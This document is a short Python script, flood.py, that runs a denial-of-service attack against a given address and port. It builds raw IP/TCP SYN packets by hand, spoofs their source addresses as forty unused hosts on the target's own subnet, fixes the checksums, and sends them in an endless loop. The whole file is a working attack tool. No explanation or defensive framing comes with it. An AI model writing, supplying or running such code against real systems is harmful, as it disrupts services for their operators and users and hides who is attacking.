"""flood.py ADDRESS PORT: SYNs from forty addresses of the network that nobody has, for ever."""
import random, socket, struct, sys, time


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


target, port = socket.inet_aton(sys.argv[1]), int(sys.argv[2])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
while True:
    for host in range(100, 140):
        source = target[:3] + bytes([host])
        tcp = struct.pack("!HHIIBBHHH", random.randrange(2000, 60000), port, 7, 0, 0x50, 2, 1000, 0, 0)
        pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, host, 0, 64, 6, 0, source, target) + tcp, (sys.argv[1], 0))
    time.sleep(0.02)
